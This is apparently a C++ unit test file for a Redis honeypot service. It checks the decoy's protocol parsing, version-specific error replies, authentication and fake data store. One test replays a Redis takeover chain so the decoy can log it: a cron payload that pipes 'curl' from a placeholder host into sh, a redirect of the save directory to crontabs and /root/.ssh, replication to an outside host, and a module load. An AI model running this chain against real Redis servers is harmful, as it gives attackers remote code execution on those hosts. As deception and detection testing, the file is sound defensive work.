// The redis service byte for byte through FakeConnection: the RESP parser at every split, each error
// text as redis-server words it, AUTH per version and mode, the fake store and its overlay, and the
// RCE chain's events.
#include <gtest/gtest.h>

#include <random>
#include <regex>

#include "decnet/core/text.h"
#include "decnet/decoy/testing.h"
#include "decnet/services/db/redis.h"
#include "redis_fuzz_entry.h"

namespace decnet::services::db {
namespace {

using decoy::testing::FakeConnection;
using decoy::testing::ParamOf;
using decoy::testing::TestDecky;

decoy::PersonaInputs Inputs(std::string auth, std::string version = "", std::string password = "",
                            std::string distro = "") {
  decoy::PersonaInputs in;
  in.settings["redis"]["auth"] = std::move(auth);
  if (!version.empty()) in.settings["redis"]["version"] = std::move(version);
  if (!password.empty()) in.settings["redis"]["password"] = std::move(password);
  in.distro = std::move(distro);
  return in;
}

std::string Resp(std::initializer_list<std::string_view> args) {
  std::string out = "*" + std::to_string(args.size()) + "\r\n";
  for (auto a : args) out += "$" + std::to_string(a.size()) + "\r\n" + std::string(a) + "\r\n";
  return out;
}

struct Client {
  explicit Client(decoy::PersonaInputs in)
      : decky(std::move(in)), svc(MakeRedis(*decky.decky)), conn(*decky.decky, 6379) {
    session = svc->NewSession(conn);
    session->OnOpen();
  }
  ~Client() {
    if (session) session->OnClose(decoy::CloseReason::kPeer);
  }
  std::string Send(std::string_view bytes) {
    session->OnData(bytes);
    return conn.Take();
  }
  std::string Cmd(std::initializer_list<std::string_view> args) { return Send(Resp(args)); }
  TestDecky decky;
  std::unique_ptr<decoy::Service> svc;
  FakeConnection conn;
  std::unique_ptr<decoy::Session> session;
};

TEST(RedisParser, PingInlineAndResp) {
  Client c(Inputs("none", "7.0.15"));
  EXPECT_EQ(c.Send("PING\r\n"), "+PONG\r\n");
  EXPECT_EQ(c.Send("ping\n"), "+PONG\r\n");
  EXPECT_EQ(c.Cmd({"PING"}), "+PONG\r\n");
  EXPECT_EQ(c.Cmd({"PING", "hello"}), "$5\r\nhello\r\n");
  EXPECT_EQ(c.Cmd({"ECHO", std::string_view("a\0b\r\n", 5)}), std::string("$5\r\na\0b\r\n\r\n", 11));
  EXPECT_EQ(c.Send("\r\n\r\n*0\r\n*-1\r\n"), "");  // empty commands: no reply, as redis
  EXPECT_EQ(c.Send("ECHO \"a b\\x41\\n\" 'c''\r\n"), "-ERR Protocol error: unbalanced quotes in request\r\n");
  EXPECT_TRUE(c.conn.closed);
}

TEST(RedisParser, SplitAtEveryByteBoundaryGivesTheSameReplies) {
  const std::string input = Resp({"SET", "k", "v\r\n1"}) + "GET k\r\n" + Resp({"ECHO", ""}) +
                            Resp({"PING"}) + "ECHO \"q\\x00r\"\n" + Resp({"GET", "k"});
  using namespace std::string_literals;
  const std::string want = "+OK\r\n$4\r\nv\r\n1\r\n$0\r\n\r\n+PONG\r\n$3\r\nq\0r\r\n$4\r\nv\r\n1\r\n"s;
  {
    Client whole(Inputs("none", "7.0.15"));
    EXPECT_EQ(whole.Send(input), want);
  }
  for (size_t cut = 0; cut <= input.size(); ++cut) {
    Client c(Inputs("none", "7.0.15"));
    std::string out = c.Send(input.substr(0, cut));
    out += c.Send(input.substr(cut));
    EXPECT_EQ(out, want) << cut;
    EXPECT_FALSE(c.conn.closed);
  }
  Client bytewise(Inputs("none", "7.0.15"));
  std::string out;
  for (char ch : input) out += bytewise.Send(std::string_view(&ch, 1));
  EXPECT_EQ(out, want);
}

TEST(RedisParser, PipelinedRepliesInOrderAndEveryCommandLogged) {
  Client c(Inputs("none", "7.0.15"));
  std::string in;
  for (int i = 0; i < 50; ++i) in += Resp({"ECHO", std::to_string(i)});
  std::string want;
  for (int i = 0; i < 50; ++i) want += "$" + std::to_string(std::to_string(i).size()) + "\r\n" + std::to_string(i) + "\r\n";
  EXPECT_EQ(c.Send(in), want);
  const auto ev = c.decky.Events("command");
  ASSERT_EQ(ev.size(), 50u);
  EXPECT_EQ(ParamOf(ev[49], "command"), "echo");
  EXPECT_EQ(ParamOf(ev[49], "args"), "49");
  EXPECT_EQ(ParamOf(ev[49], "src_ip"), "203.0.113.7");
}

struct ErrCase {
  std::string input, reply;
};

TEST(RedisParser, EveryProtocolErrorAsRedisWordsItThenClose) {
  const std::vector<ErrCase> cases = {
      {"*x\r\n", "-ERR Protocol error: invalid multibulk length\r\n"},
      {"*01\r\n", "-ERR Protocol error: invalid multibulk length\r\n"},
      {"*\r\n", "-ERR Protocol error: invalid multibulk length\r\n"},
      {"*+1\r\n", "-ERR Protocol error: invalid multibulk length\r\n"},
      {"*3000000000\r\n", "-ERR Protocol error: invalid multibulk length\r\n"},
      {"*1\r\n+PING\r\n", "-ERR Protocol error: expected '$', got '+'\r\n"},
      {"*1\r\n:1\r\n", "-ERR Protocol error: expected '$', got ':'\r\n"},
      {"*1\r\n$-1\r\n", "-ERR Protocol error: invalid bulk length\r\n"},
      {"*1\r\n$x\r\n", "-ERR Protocol error: invalid bulk length\r\n"},
      {"*1\r\n$999999999999\r\n", "-ERR Protocol error: invalid bulk length\r\n"},
      {"*2\r\n$4\r\nECHO\r\n$70000\r\n", "-ERR Protocol error: invalid bulk length\r\n"},  // our bound
      {"*2000\r\n", "-ERR Protocol error: invalid multibulk length\r\n"},                  // our bound
      {std::string(70000, 'a'), "-ERR Protocol error: too big inline request\r\n"},
      {"*" + std::string(70000, '1'), "-ERR Protocol error: too big mbulk count string\r\n"},
      {"*1\r\n$" + std::string(70000, '1'), "-ERR Protocol error: too big bulk count string\r\n"},
      {"SET \"a\r\n", "-ERR Protocol error: unbalanced quotes in request\r\n"},
      {"SET 'a'b\r\n", "-ERR Protocol error: unbalanced quotes in request\r\n"},
  };
  for (const auto& tc : cases) {
    Client c(Inputs("none", "7.0.15"));
    EXPECT_EQ(c.Send(tc.input), tc.reply) << tc.input.substr(0, 40);
    EXPECT_TRUE(c.conn.closed) << tc.input.substr(0, 40);
    EXPECT_EQ(c.Send("PING\r\n"), "");  // nothing after the error
    EXPECT_EQ(c.decky.Events("protocol_error").size(), 1u);
  }
}

TEST(RedisParser, UnauthenticatedBoundsOfCve202132675) {
  {
    Client c(Inputs("required", "7.0.15"));
    EXPECT_EQ(c.Send("*11\r\n"), "-ERR Protocol error: unauthenticated multibulk length\r\n");
    EXPECT_TRUE(c.conn.closed);
  }
  {
    Client c(Inputs("required", "6.0.16"));
    EXPECT_EQ(c.Send("*2\r\n$4\r\nECHO\r\n$16385\r\n"), "-ERR Protocol error: unauthenticated bulk length\r\n");
  }
  {
    Client c(Inputs("required", "7.0.15", "pw"));
    EXPECT_EQ(c.Cmd({"AUTH", "pw"}), "+OK\r\n");
    const std::string big(16385, 'x');
    EXPECT_EQ(c.Cmd({"ECHO", big}), "$16385\r\n" + big + "\r\n");  // authenticated: allowed
  }
  {
    Client c(Inputs("none", "7.0.15"));
    std::string s = "*11\r\n";
    for (int i = 0; i < 11; ++i) s += "$1\r\nx\r\n";
    EXPECT_EQ(c.Send(s), "-ERR unknown command 'x', with args beginning with: 'x' 'x' 'x' 'x' 'x' 'x' 'x' 'x' 'x' 'x' \r\n");
  }
}

TEST(RedisParser, WholeCommandOverBoundClosesSilentlyLikeTheQueryBufferLimit) {
  Client c(Inputs("none", "7.0.15"));
  const std::string part(60000, 'y');
  EXPECT_EQ(c.Send("*4\r\n$4\r\nECHO\r\n$60000\r\n" + part + "\r\n$60000\r\n" + part + "\r\n$60000\r\n"), "");
  EXPECT_TRUE(c.conn.closed);
  EXPECT_EQ(c.decky.counters.lines_too_long, 1u);
}

TEST(RedisParser, HostileBytesNeverCrash) {
  std::mt19937 rng(1234);
  for (int round = 0; round < 40; ++round) {
    std::string junk(1 + rng() % 300, '\0');
    for (char& ch : junk) ch = static_cast<char>("*$\r\n01-9 \"'\\xaPINGAUTH"[rng() % 22]);
    fuzz::RedisBytes(reinterpret_cast<const uint8_t*>(junk.data()), junk.size());
  }
  const std::string seeds[] = {"*1\r\n$4\r\nPING\r\n", "*3\r\n$6\r\nCONFIG\r\n$3\r\nSET\r\n",
                               "AUTH a b c d\r\nKEYS *[\r\n", std::string("\0\xff\xfe*\r", 5),
                               "EVAL \"return 1\" 0\nSCAN 0 MATCH ***********[ COUNT 0\n"};
  for (const auto& s : seeds) fuzz::RedisBytes(reinterpret_cast<const uint8_t*>(s.data()), s.size());
}

TEST(RedisAuth, PasswordProtectedPerVersion) {
  {
    Client c(Inputs("required", "7.0.15"));
    EXPECT_EQ(c.Cmd({"GET", "x"}), "-NOAUTH Authentication required.\r\n");
    EXPECT_EQ(c.Send("INFO\r\n"), "-NOAUTH Authentication required.\r\n");
    EXPECT_EQ(c.Cmd({"AUTH", "hunter2"}), "-WRONGPASS invalid username-password pair or user is disabled.\r\n");
    EXPECT_EQ(c.Cmd({"AUTH", "admin", std::string_view("t\xc3\xabst", 5)}),
              "-WRONGPASS invalid username-password pair or user is disabled.\r\n");
    EXPECT_EQ(c.Cmd({"AUTH", "a", "b", "c"}), "-ERR syntax error\r\n");
    EXPECT_EQ(c.Cmd({"AUTH"}), "-ERR wrong number of arguments for 'auth' command\r\n");
    // Unknown commands and wrong arity are checked before authentication, as processCommand() does.
    EXPECT_EQ(c.Cmd({"FOO", "bar"}), "-ERR unknown command 'FOO', with args beginning with: 'bar' \r\n");
    EXPECT_EQ(c.Cmd({"GET"}), "-ERR wrong number of arguments for 'get' command\r\n");
    const auto ev = c.decky.Events("auth");
    ASSERT_EQ(ev.size(), 2u);
    EXPECT_EQ(ParamOf(ev[0], "principal"), "default");
    EXPECT_EQ(ParamOf(ev[0], "secret_b64"), Base64Encode("hunter2"));
    EXPECT_EQ(ParamOf(ev[0], "secret_kind"), "plaintext");
    EXPECT_EQ(ParamOf(ev[0], "success"), "false");
    EXPECT_EQ(ParamOf(ev[1], "principal"), "admin");
    EXPECT_EQ(ParamOf(ev[1], "secret_b64"), Base64Encode("t\xc3\xabst"));
    EXPECT_EQ(ParamOf(ev[1], "secret_printable"), "t??st");
    // The password never appears in the command event.
    for (const auto& l : c.decky.Events("command")) EXPECT_EQ(l.find("hunter2"), std::string::npos);
  }
  {
    Client c(Inputs("required", "6.0.16"));
    EXPECT_EQ(c.Cmd({"AUTH", "x"}), "-WRONGPASS invalid username-password pair\r\n");
    EXPECT_EQ(c.Cmd({"FOO", "a", "b"}), "-ERR unknown command `FOO`, with args beginning with: `a`, `b`, \r\n");
  }
  {
    Client c(Inputs("required", "5.0.7"));
    EXPECT_EQ(c.Cmd({"AUTH", "x"}), "-ERR invalid password\r\n");
    EXPECT_EQ(c.Cmd({"AUTH", "u", "x"}), "-ERR wrong number of arguments for 'auth' command\r\n");
  }
  {
    Client c(Inputs("required", "3.2.12"));
    EXPECT_EQ(c.Cmd({"FOO", "a"}), "-ERR unknown command 'FOO'\r\n");
  }
  {
    Client c(Inputs("required", "7.0.15", "s3cret"));
    EXPECT_EQ(c.Cmd({"AUTH", "nope"}), "-WRONGPASS invalid username-password pair or user is disabled.\r\n");
    EXPECT_EQ(c.Cmd({"GET", "stats:visits"}), "-NOAUTH Authentication required.\r\n");
    EXPECT_EQ(c.Cmd({"AUTH", "default", "s3cret"}), "+OK\r\n");
    EXPECT_EQ(c.Cmd({"GET", "stats:visits"}), "$6\r\n184223\r\n");
    EXPECT_EQ(ParamOf(c.decky.Events("auth").back(), "success"), "true");
  }
}

TEST(RedisAuth, NoAuthMode) {
  Client c(Inputs("none", "7.0.15"));
  EXPECT_EQ(c.Cmd({"AUTH", "pw"}),
            "-ERR AUTH <password> called without any password configured for the default user. Are you sure "
            "your configuration is correct?\r\n");
  EXPECT_EQ(c.Cmd({"AUTH", "bob", "pw"}), "-WRONGPASS invalid username-password pair or user is disabled.\r\n");
  EXPECT_EQ(c.Cmd({"AUTH", "default", "anything"}), "+OK\r\n");
  EXPECT_EQ(c.decky.Events("auth").size(), 3u);
  Client old(Inputs("none", "5.0.7"));
  EXPECT_EQ(old.Cmd({"AUTH", "pw"}), "-ERR Client sent AUTH, but no password is set\r\n");
}

TEST(RedisCommands, UnknownCommandAsRedis7WordsIt) {
  Client c(Inputs("none", "7.0.15"));
  EXPECT_EQ(c.Cmd({"FOO"}), "-ERR unknown command 'FOO', with args beginning with: \r\n");
  EXPECT_EQ(c.Cmd({"x\r\ny", "a\nb"}), "-ERR unknown command 'x  y', with args beginning with: 'a b' \r\n");
  const std::string longarg(200, 'z');
  EXPECT_EQ(c.Cmd({"FOO", longarg, "b"}),
            "-ERR unknown command 'FOO', with args beginning with: '" + std::string(128, 'z') + "' \r\n");
  // HTTP sent to redis: closed without a reply (securityWarningCommand).
  EXPECT_EQ(c.Send("POST / HTTP/1.1\r\nHost: x\r\n\r\n"), "");
  EXPECT_TRUE(c.conn.closed);
  Client g(Inputs("required", "7.0.15"));
  // nmap's GetRequest probe: what its redis signature expects.
  EXPECT_EQ(g.Send("GET / HTTP/1.0\r\n\r\n"), "-ERR wrong number of arguments for 'get' command\r\n");
}

TEST(RedisCommands, InfoFromThePersona) {
  Client c(Inputs("none", "", "", "ubuntu22"));
  const std::string all = c.Send("INFO\r\n");
  EXPECT_TRUE(std::regex_search(all, std::regex("^\\$\\d+\\r\\n(?:#[^\\r\\n]*\\r\\n)*redis_version:6\\.0\\.16\\r\\n")))
      << all.substr(0, 80);
  EXPECT_NE(all.find("\r\nos:Linux " + c.decky.persona.kernel() + " x86_64\r\n"), std::string::npos);
  for (auto s : {"# Server", "# Clients", "# Memory", "# Persistence", "# Stats", "# Replication", "# CPU",
                 "# Keyspace", "\r\nuptime_in_seconds:", "\r\nconnected_clients:", "\r\nused_memory:",
                 "\r\ndb0:keys="})
    EXPECT_NE(all.find(s), std::string::npos) << s;
  // The bulk length is the body's.
  const size_t body = all.find("\r\n") + 2;
  EXPECT_EQ(std::to_string(all.size() - body - 2), all.substr(1, body - 3));
  const std::string server = c.Send("INFO server\r\n");
  EXPECT_NE(server.find("# Server\r\n"), std::string::npos);
  EXPECT_EQ(server.find("# Clients"), std::string::npos);
  Client deb(Inputs("none", "", "", "debian"));
  EXPECT_NE(deb.Send("INFO server\r\n").find("redis_version:7.0.15\r\n"), std::string::npos);
}

TEST(RedisCommands, StoreAndOverlay) {
  Client c(Inputs("none", "7.0.15"));
  const std::string keys = c.Cmd({"KEYS", "*"});
  EXPECT_NE(keys.find("$10\r\nconfig:app\r\n"), std::string::npos);
  EXPECT_EQ(c.Cmd({"TYPE", "user:1042"}), "+hash\r\n");
  EXPECT_EQ(c.Cmd({"GET", "user:1042"}),
            "-WRONGTYPE Operation against a key holding the wrong kind of value\r\n");
  EXPECT_EQ(c.Cmd({"HGET", "user:1042", "name"}), "$7\r\nj.smith\r\n");
  EXPECT_EQ(c.Cmd({"GET", "nope"}), "$-1\r\n");
  const std::string n0 = c.Cmd({"DBSIZE"});
  EXPECT_EQ(c.Cmd({"SET", "x", "1"}), "+OK\r\n");
  EXPECT_EQ(c.Cmd({"GET", "x"}), "$1\r\n1\r\n");
  EXPECT_EQ(c.Cmd({"KEYS", "x*"}), "*1\r\n$1\r\nx\r\n");
  EXPECT_EQ(c.Cmd({"SCAN", "0", "MATCH", "x"}), "*2\r\n$1\r\n0\r\n*1\r\n$1\r\nx\r\n");
  EXPECT_EQ(c.Cmd({"DEL", "x", "stats:visits", "nope"}), ":2\r\n");
  EXPECT_EQ(c.Cmd({"GET", "stats:visits"}), "$-1\r\n");
  EXPECT_EQ(c.Cmd({"SELECT", "16"}), "-ERR DB index is out of range\r\n");
  EXPECT_EQ(c.Cmd({"SELECT", "1"}), "+OK\r\n");
  EXPECT_EQ(c.Cmd({"DBSIZE"}), ":0\r\n");
  EXPECT_EQ(c.Cmd({"SELECT", "0"}), "+OK\r\n");
  EXPECT_NE(c.Cmd({"DBSIZE"}), n0);
  // The overlay is bounded: past it, redis's maxmemory answer, counted.
  const std::string big(8000, 'v');
  std::string last;
  for (int i = 0; i < 20; ++i) last = c.Cmd({"SET", "k" + std::to_string(i), big});
  EXPECT_EQ(last, "-OOM command not allowed when used memory > 'maxmemory'.\r\n");
  // Another connection of the same decky does not see this one's writes.
  FakeConnection other(*c.decky.decky, 6379);
  auto s2 = c.svc->NewSession(other);
  s2->OnData(Resp({"GET", "k1"}));
  EXPECT_EQ(other.Take(), "$-1\r\n");
  s2->OnClose(decoy::CloseReason::kPeer);
}

TEST(RedisCommands, RceChainLoggedAsSuch) {
  Client c(Inputs("none", "6.0.16"));
  EXPECT_EQ(c.Cmd({"CONFIG", "GET", "dir"}), "*2\r\n$3\r\ndir\r\n$14\r\n/var/lib/redis\r\n");
  EXPECT_EQ(c.Cmd({"CONFIG", "SET", "dir", "/var/spool/cron/crontabs"}), "+OK\r\n");
  EXPECT_EQ(c.Cmd({"CONFIG", "SET", "dbfilename", "root"}), "+OK\r\n");
  EXPECT_EQ(c.Cmd({"SET", "x", "\n\n*/1 * * * * curl http://198.51.100.9/x.sh | sh\n\n"}), "+OK\r\n");
  EXPECT_EQ(c.Cmd({"CONFIG", "GET", "dir"}), "*2\r\n$3\r\ndir\r\n$24\r\n/var/spool/cron/crontabs\r\n");
  EXPECT_EQ(c.Cmd({"SAVE"}), "+OK\r\n");
  EXPECT_EQ(c.Cmd({"BGSAVE"}), "+Background saving started\r\n");
  auto cs = c.decky.Events("config_set");
  ASSERT_EQ(cs.size(), 2u);
  EXPECT_EQ(ParamOf(cs[0], "parameter"), "dir");
  EXPECT_EQ(ParamOf(cs[0], "value"), "/var/spool/cron/crontabs");
  auto sv = c.decky.Events("save");
  ASSERT_EQ(sv.size(), 2u);
  EXPECT_EQ(ParamOf(sv[0], "dir"), "/var/spool/cron/crontabs");
  EXPECT_EQ(ParamOf(sv[0], "dbfilename"), "root");
  EXPECT_EQ(ParamOf(sv[0], "after_config_set"), "true");

  EXPECT_EQ(c.Cmd({"SLAVEOF", "198.51.100.9", "21000"}), "+OK\r\n");
  auto rep = c.decky.Events("replicaof");
  ASSERT_EQ(rep.size(), 1u);
  EXPECT_EQ(ParamOf(rep[0], "host"), "198.51.100.9");
  EXPECT_EQ(ParamOf(rep[0], "port"), "21000");
  const std::string info = c.Send("INFO replication\r\n");
  EXPECT_NE(info.find("role:slave\r\nmaster_host:198.51.100.9\r\nmaster_port:21000\r\nmaster_link_status:down\r\n"),
            std::string::npos) << info;
  EXPECT_EQ(c.Cmd({"MODULE", "LOAD", "/tmp/exp.so"}), "-ERR Error loading the extension. Please check the server logs.\r\n");
  EXPECT_EQ(ParamOf(c.decky.Events("module_load").at(0), "path"), "/tmp/exp.so");
  EXPECT_EQ(c.Cmd({"SLAVEOF", "NO", "ONE"}), "+OK\r\n");
  EXPECT_EQ(c.Cmd({"EVAL", "return 1", "0"}), ":1\r\n");
  EXPECT_EQ(c.Cmd({"EVAL", "return 'x'", "0"}), "$1\r\nx\r\n");
  EXPECT_EQ(c.Cmd({"EVAL", "return 1", "2", "a"}), "-ERR Number of keys can't be greater than number of args\r\n");
  EXPECT_EQ(ParamOf(c.decky.Events("eval").at(0), "script"), "return 1");
  EXPECT_EQ(c.Cmd({"FLUSHALL"}), "+OK\r\n");
  EXPECT_EQ(c.Cmd({"DBSIZE"}), ":0\r\n");
  EXPECT_EQ(c.decky.Events("flushall").size(), 1u);

  // 7.0: dir/dbfilename are protected configs and MODULE is disabled by default.
  Client n(Inputs("none", "7.0.15"));
  EXPECT_EQ(n.Cmd({"CONFIG", "SET", "dir", "/root/.ssh"}),
            "-ERR CONFIG SET failed (possibly related to argument 'dir') - can't set protected config\r\n");
  EXPECT_EQ(ParamOf(n.decky.Events("config_set").at(0), "value"), "/root/.ssh");
  EXPECT_EQ(n.Cmd({"CONFIG", "SET", "nosuch", "1"}),
            "-ERR Unknown option or number of arguments for CONFIG SET - 'nosuch'\r\n");
  EXPECT_EQ(n.Cmd({"MODULE", "LOAD", "/tmp/x.so"}).rfind("-ERR MODULE command not allowed.", 0), 0u);
  EXPECT_EQ(n.Cmd({"REPLICAOF", "198.51.100.9", "6379"}), "+OK\r\n");
}

TEST(RedisCommands, ClientAndCommand) {
  Client c(Inputs("none", "7.0.15"));
  EXPECT_EQ(c.Cmd({"CLIENT", "SETNAME", "w1"}), "+OK\r\n");
  EXPECT_EQ(c.Cmd({"CLIENT", "GETNAME"}), "$2\r\nw1\r\n");
  const std::string list = c.Cmd({"CLIENT", "LIST"});
  EXPECT_NE(list.find(" addr=203.0.113.7:40123 laddr=127.0.0.1:6379 "), std::string::npos) << list;
  EXPECT_NE(list.find(" name=w1 "), std::string::npos);
  EXPECT_EQ(c.Cmd({"COMMAND", "DOCS"}), "*0\r\n");
  EXPECT_EQ(c.Cmd({"COMMAND", "COUNT"}).front(), ':');
  EXPECT_EQ(c.Cmd({"COMMAND"}).front(), '*');
  EXPECT_EQ(c.Cmd({"QUIT"}), "+OK\r\n");
  EXPECT_TRUE(c.conn.closed);
}

TEST(RedisCommands, TtlHelloAndHealth) {
  Client c(Inputs("required", "7.0.15", "s3cret"));
  EXPECT_EQ(c.Cmd({"HELLO", "2"}).rfind("-NOAUTH HELLO must be called with the client already authenticated", 0), 0u);
  EXPECT_EQ(c.Cmd({"HELLO", "2", "AUTH", "ops", "guess"}),
            "-WRONGPASS invalid username-password pair or user is disabled.\r\n");
  const auto ev = c.decky.Events("auth");
  ASSERT_EQ(ev.size(), 1u);
  EXPECT_EQ(ParamOf(ev[0], "principal"), "ops");
  EXPECT_EQ(ParamOf(ev[0], "via"), "hello");
  EXPECT_EQ(c.Cmd({"HELLO", "2", "AUTH", "default", "s3cret"}).rfind("*14\r\n$6\r\nserver\r\n$5\r\nredis\r\n", 0), 0u);
  EXPECT_EQ(c.Cmd({"TTL", "nope"}), ":-2\r\n");
  EXPECT_EQ(c.Cmd({"TTL", "config:app"}), ":-1\r\n");
  EXPECT_EQ(c.Cmd({"SET", "t", "1"}), "+OK\r\n");
  EXPECT_EQ(c.Cmd({"TTL", "t"}), ":-1\r\n");
  std::string health;
  c.svc->AddHealth(&health);
  EXPECT_NE(health.find("\"redis_auth\":2"), std::string::npos) << health;
  EXPECT_NE(health.find("\"redis_sessions\":1"), std::string::npos) << health;
}

TEST(RedisHelpers, GlobAndInlineSplit) {
  EXPECT_TRUE(GlobMatch("*", "anything"));
  EXPECT_TRUE(GlobMatch("user:*", "user:1042"));
  EXPECT_TRUE(GlobMatch("s?ss*", "session:1"));
  EXPECT_TRUE(GlobMatch("[a-c]x", "bx"));
  EXPECT_FALSE(GlobMatch("[^a-c]x", "bx"));
  EXPECT_TRUE(GlobMatch("a\\*", "a*"));
  EXPECT_FALSE(GlobMatch("a\\*", "ab"));
  EXPECT_TRUE(GlobMatch("DIR", "dir", true));
  // Bounded work on a hostile pattern (exponential in redis's recursion).
  EXPECT_FALSE(GlobMatch(std::string(5000, '*') + "a*a*a*a*a*a*b", std::string(3000, 'a')));
  std::vector<std::string> a;
  ASSERT_TRUE(SplitInlineArgs("  set \"a b\" 'c\\'d' \"\\x41\\n\"  ", &a));
  EXPECT_EQ(a, (std::vector<std::string>{"set", "a b", "c'd", "A\n"}));
  EXPECT_FALSE(SplitInlineArgs("\"abc", &a));
  EXPECT_FALSE(SplitInlineArgs("'a'b", &a));
}

}  // namespace
}  // namespace decnet::services::db
